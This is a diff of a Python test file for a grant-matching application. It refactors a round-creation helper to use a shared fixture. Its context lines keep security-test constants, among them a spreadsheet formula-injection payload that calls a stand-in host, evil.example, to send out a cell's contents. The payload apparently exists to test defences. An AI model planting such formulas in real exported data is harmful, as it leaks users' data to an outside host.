@@ -25,12 +25,11 @@ from pux.accounts.permissions import EXPERT, Actor, Grant
 from pux.accounts.schemas import InvitationCreate
 from pux.config import Settings
 from pux.matching import service as matching
-from pux.matching.allocation import RoundRules
 from pux.needs import service as needs
 from pux.needs.models import Need
 from pux.programmes.models import Programme
 from tests.web_helpers import bearer, csrf_token, sign_in
-from tests.world import PASSWORD, World, published_grant_programme
+from tests.world import PASSWORD, World, facilitator_round, published_grant_programme
 
 HUGE_ID = "1180591620717411303424"  # 2**70: no database integer holds it
 HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
@@ -56,13 +55,7 @@ def _funding_programme(session: Session, world: World) -> int:
 
 def _round(session: Session, world: World) -> tuple[int, int]:
     programme_id = _funding_programme(session, world)
-    record = matching.run_round(
-        session,
-        actor=world.actors["facilitator"],
-        title="Security review round",
-        rules=RoundRules(country_cap_share=1.0),
-        programme_ids=[programme_id],
-    )
+    record = facilitator_round(session, world, programme_id, title="Security review round", cap_share=1.0)
     return record.id, programme_id
 
 
